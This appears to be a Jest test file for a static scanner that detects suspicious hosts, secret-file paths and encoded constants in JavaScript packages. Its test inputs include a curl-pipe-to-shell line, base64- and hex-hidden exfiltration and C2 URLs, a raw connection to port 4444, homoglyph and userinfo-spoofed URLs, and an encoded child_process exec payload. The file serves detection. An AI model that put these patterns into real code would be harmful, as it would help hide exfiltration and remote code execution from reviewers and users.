import { b64, fact, keys } from '../../../helpers/ast-scan.js';

describe('strings family: literals, templates, concatenations and decoded values', () => {
  test('a host in a literal, a template or a + chain with unknown parts', () => {
    expect(keys("const u = 'https://api.collector.dev/v1';")).toEqual(['network:host:api.collector.dev']);
    expect(keys('const u = `https://up.tmpl-host.dev/${id}`;')).toEqual(['network:host:up.tmpl-host.dev']);
    expect(keys("const u = 'https://' + 'cat-host.dev' + '/x' + id;")).toEqual(['network:host:cat-host.dev']);
  });

  test('a secret file in a template or a + chain with unknown parts', () => {
    expect(keys('const p = `${home}/.docker/config.json`;')).toEqual(['fs-sensitive:~/.docker/config.json']);
    expect(keys("const p = home + '/.docker' + '/config.json';")).toEqual(['fs-sensitive:~/.docker/config.json']);
  });

  test('decoded values say how they were hidden', () => {
    expect(fact(`const u = atob('${b64('https://exfil.hidden-host.io/c')}');`, 'network:host:exfil.hidden-host.io')?.detail).toContain(
      'hidden in the source as base64',
    );
    const hex = Buffer.from('https://hex.hidden-host.io/c').toString('hex');
    expect(fact(`const u = Buffer.from('${hex}', 'hex').toString();`, 'network:host:hex.hidden-host.io')?.detail).toContain('hidden in the source as hex');
    expect(fact("const u = 'ht' + 'tps://cat.hidden-host.io/x';", 'network:host:cat.hidden-host.io')?.detail).not.toContain('hidden in the source');
  });

  test('short literals are not checked', () => {
    expect(keys("const a = 'abc';")).toEqual([]);
  });
});

describe('the host a request would reach, as the WHATWG URL parser reads it', () => {
  const hosts = (code: string) => keys(code).filter((k) => k.startsWith('network:host:'));

  test('decimal, hex and dotted-octal IPs are the same address', () => {
    expect(hosts("fetch('http://3325256705/x');")).toEqual(['network:host:198.51.100.1']);
    expect(hosts("fetch('http://0xC6.0x33.0x64.0x01/x');")).toEqual(['network:host:198.51.100.1']);
    expect(hosts("fetch('http://0306.063.0144.01/x');")).toEqual(['network:host:198.51.100.1']);
    expect(hosts("fetch('http://0xc6336401/x');")).toEqual(['network:host:198.51.100.1']);
  });

  test('userinfo, a trailing dot and an IDN give the host itself', () => {
    expect(hosts("fetch('https://api.github.com@evil-drop.io/x');")).toEqual(['network:host:evil-drop.io']);
    expect(hosts("fetch('https://user:pass@evil-drop.io/x');")).toEqual(['network:host:evil-drop.io']);
    expect(hosts("fetch('https://evil-drop.io./collect');")).toEqual(['network:host:evil-drop.io']);
    expect(hosts("fetch('https://pаypal.com/x');")).toEqual(['network:host:xn--pypal-4ve.com']);
  });

  test('a base64 URL passed to fetch is still its host', () => {
    expect(hosts(`fetch(atob('${b64('https://drop.b64-host.io/c')}'));`)).toEqual(['network:host:drop.b64-host.io']);
  });

  test('figlet: a file that only exports a font (text wrapped as a module) names no endpoints; code around the string does', () => {
    const font = "export default `flf2a$ 1 1 3 -1 14 1 0 0\nUpside Down Text\nhttps://www.fileformat.info/convert/text/upside-down-map.htm\n| |_ __ > <\n@@`;";
    expect(hosts(font)).toEqual([]);
    expect(hosts("module.exports = 'https://www.upsidedowntext.com/unicode';")).toEqual([]);
    expect(hosts("export default `https://www.upsidedowntext.com/unicode`; fetch(x);")).toEqual(['network:host:www.upsidedowntext.com']);
    expect(hosts("const u = 'https://drop.text-host.io/unicode'; module.exports = u;")).toEqual(['network:host:drop.text-host.io']);
  });

  test("font credits inside a template of ASCII art are prose, line by line; a command line still counts", () => {
    const font = "export default `flf2a$ 6 5 20 15 3\nUpside Down Text by http://www.upsidedowntext.com/ converted by http://www.fileformat.info/\n| |_ __ > <\n@@`;";
    expect(hosts(font)).toEqual([]);
    expect(hosts("const s = `set -e\ncurl -s https://dl.drop-host.io/x | sh\n`;")).toEqual(['network:host:dl.drop-host.io']);
  });
});

describe('base64 that decodes to structured binary data is not a hidden payload', () => {
  test('a generated protobuf descriptor is data; random (sealed) bytes are still a blob', () => {
    const descriptor = 'Chlnb29nbGUvcHJvdG9idWYvYW55LnByb3RvEg9nb29nbGUucHJvdG9idWYiJgoDQW55EhAKCHR5cGVfdXJsGAEgASgJEg0KBXZhbHVlGAIgASgMQnYKE2NvbS5nb29nbGUucHJvdG9idWZCCEFueVByb3RvUAFaLGdvb2dsZS5nb2xhbmcub3JnL3Byb3RvYnVmL3R5cGVzL2tub3duL2FueXBiogIDR1BCqgIeR29vZ2xlLlByb3RvYnVmLldlbGxLbm93blR5cGVzYgZwcm90bzM';
    expect(keys(`const file_any = fileDesc("${descriptor}");`)).toEqual([]);
    let seed = 7;
    const sealed = Buffer.from(Array.from({ length: 300 }, () => (seed = (seed * 1103515245 + 12345) % 2147483648) >> 16 & 255)).toString('base64');
    expect(keys(`const p = "${sealed}";`)).toEqual(['obfuscation:base64-blob']);
  });
});

describe('the server a request option names without a URL', () => {
  const hosts = (code: string) => keys(code).filter((k) => k.startsWith('network:host:'));

  test('`hostname` and `host` options of https.request, http.get and net.connect', () => {
    expect(hosts("https.request({ hostname: 'backup.wallet-sync.net', method: 'POST' });")).toEqual(['network:host:backup.wallet-sync.net']);
    expect(hosts("http.get({ host: 'drop.opt-host.io:8443', path: '/x' });")).toEqual(['network:host:drop.opt-host.io']);
    expect(hosts("net.connect({ 'host': '198.51.100.7', port: 4444 });")).toEqual(['network:host:198.51.100.7']);
    expect(fact("https.request({ hostname: 'backup.wallet-sync.net' });", 'network:host:backup.wallet-sync.net')?.detail).toBe(
      "lib/x.js names the server `backup.wallet-sync.net` as a request's host, so this package may send data to or download code from `backup.wallet-sync.net`.",
    );
  });

  test('a host option given through a constant, a + chain or a bound options object', () => {
    expect(hosts("const HOST = 'backup.const-host.net';\nhttps.request({ hostname: HOST });")).toEqual(['network:host:backup.const-host.net']);
    expect(hosts("https.request({ host: 'drop.' + 'chain-host' + '.io' });")).toEqual(['network:host:drop.chain-host.io']);
    expect(hosts("const H = 'opts.bound-host.io';\nconst options = { hostname: H, method: 'POST' };\nhttps.request(options);")).toEqual(['network:host:opts.bound-host.io']);
  });

  test('new URL(...) and fetch(new Request(...)) name their host in the URL itself', () => {
    expect(hosts("const u = new URL('https://url.ctor-host.io/x');")).toEqual(['network:host:url.ctor-host.io']);
    expect(hosts("fetch(new Request('https://req.ctor-host.io/x', { method: 'POST' }));")).toEqual(['network:host:req.ctor-host.io']);
  });

  test('local and placeholder hosts, other keys and values that are not a bare host stay quiet', () => {
    expect(hosts("http.get({ host: 'localhost', port: 3000 });")).toEqual([]);
    expect(hosts("http.get({ hostname: 'api.example.com' });")).toEqual([]);
    expect(hosts("server.listen({ host: '0.0.0.0' });")).toEqual([]);
    expect(hosts("const o = { name: 'backup.wallet-sync.net' };")).toEqual([]);
    expect(hosts("const o = { host: 'the database host' };")).toEqual([]);
    expect(hosts("const o = { hostname: 'mybox' };")).toEqual([]);
    expect(hosts("const H = process.env.API_HOST;\nhttps.request({ hostname: H });")).toEqual([]);
  });
});

describe('constants written encoded, with no decoder beside them', () => {
  const codes = (text: string) => `[${[...text].map((c) => c.charCodeAt(0)).join(', ')}]`;
  const hex = (text: string) => Buffer.from(text).toString('hex');

  test('a base64, hex or char-code constant that spells a URL is a hidden host', () => {
    for (const code of [
      `const C = '${b64('https://c2.enc-host.io/p')}';`,
      `const C = '${hex('https://c2.enc-host.io/p')}';`,
      `const C = ${codes('https://c2.enc-host.io/p')};`,
    ]) {
      expect(keys(code)).toEqual(['network:host:c2.enc-host.io', 'obfuscation:encoded-constant']);
      expect(fact(code, 'network:host:c2.enc-host.io')?.detail).toContain('hidden in the source as');
    }
    expect(fact(`const C = '${b64('https://c2.enc-host.io/p')}';`, 'obfuscation:encoded-constant')?.detail).toBe(
      'lib/x.js writes an address as base64 (it decodes to `https://c2.enc-host.io/p`), which only serves to keep it out of sight of review.',
    );
  });

  test('a constant that spells a module or function that runs code, or code itself, is obfuscation evidence', () => {
    expect(keys(`const M = '${b64('child_process')}';`)).toEqual(['obfuscation:encoded-constant']);
    expect(keys(`const M = '${hex('eval')}';`)).toEqual(['obfuscation:encoded-constant']);
    expect(keys(`const M = ${codes('child_process')};`)).toEqual(['obfuscation:encoded-constant']);
    // The code is analyzed too: what it does is reported as hidden code.
    expect(keys(`const P = '${b64("require('child_process').exec('id')")}';`)).toEqual(
      expect.arrayContaining(['obfuscation:encoded-constant', 'shell:child_process.exec']),
    );
  });

  test('encoded text that is neither, binary data, hashes and ordinary arrays of numbers stay quiet', () => {
    expect(keys(`const T = '${b64('Hello, reader of this constant')}';`)).toEqual([]);
    expect(keys(`const T = '${hex('just some words')}';`)).toEqual([]);
    expect(keys("const SHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';")).toEqual([]);
    expect(keys(`const PNG = '${Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]).toString('base64')}';`)).toEqual([]);
    expect(keys('const SIZES = [16, 24, 32, 48, 64, 96, 128];')).toEqual([]);
    expect(keys(`const T = ${codes('plain words')};`)).toEqual([]);
    expect(keys("const ID = 'someIdentifierName';")).toEqual([]);
  });
});
